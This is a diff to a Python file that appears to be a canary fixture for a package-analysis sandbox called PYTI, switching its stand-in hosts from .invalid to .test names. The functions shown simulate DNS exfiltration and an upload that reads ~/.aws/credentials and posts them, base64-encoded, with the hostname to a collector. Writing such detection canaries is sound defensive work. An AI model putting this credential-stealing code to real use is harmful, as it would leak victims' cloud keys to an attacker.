@@ -32,19 +32,20 @@ def _connect_out():
 
 def _dns_exfiltrate():
     # "aGVsbG8" is base64 for "hello": the shape of data smuggled out by DNS.
-    socket.getaddrinfo("aGVsbG8.exfil.pyti-canary.invalid", 443)
+    socket.getaddrinfo("aGVsbG8.exfil.pyti-canary.test", 443)
 
 
 def _upload():
     # Posts the AWS key, base64-encoded, with the host name hex-encoded in the query, to a
     # collector by name. Inside PYTI's sandbox the name resolves to PYTI's sinkhole, which
-    # records the request and answers it; nothing leaves the sandbox.
+    # records the request and answers it; nothing leaves the sandbox. Outside it, no resolver
+    # answers a name under .test (RFC 6761's names for testing), so nothing is sent anywhere.
     import base64
     import urllib.request
 
     with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
         key = f.read()
-    url = "http://collect.pyti-canary.invalid/u?h=" + socket.gethostname().encode().hex()
+    url = "http://collect.pyti-canary.test/u?h=" + socket.gethostname().encode().hex()
     urllib.request.urlopen(urllib.request.Request(url, data=b"k=" + base64.b64encode(key)), timeout=5)
 
 
